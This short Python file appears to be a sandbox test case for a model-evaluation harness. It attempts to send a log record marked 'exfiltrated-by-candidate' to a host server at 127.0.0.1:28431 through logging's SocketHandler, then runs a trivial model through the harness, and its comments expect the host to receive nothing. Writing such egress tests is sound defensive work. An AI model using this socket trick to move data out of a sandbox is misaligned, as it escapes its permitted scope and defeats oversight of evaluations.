# attack: send data to a server on the host's 127.0.0.1:28431 (logging's socket handler)
# expect: ok (the run finishes; the host server receives nothing)
import logging
import logging.handlers

import torch

import harness

handler = logging.handlers.SocketHandler("127.0.0.1", 28431)
handler.closeOnError = True
record = logging.makeLogRecord({"msg": "exfiltrated-by-candidate"})
handler.emit(record)
print("socket handler sock:", handler.sock)
model = torch.nn.Embedding(256, 256).to(harness.DEVICE)
torch.nn.init.zeros_(model.weight)
harness.evaluate(model, context=64)
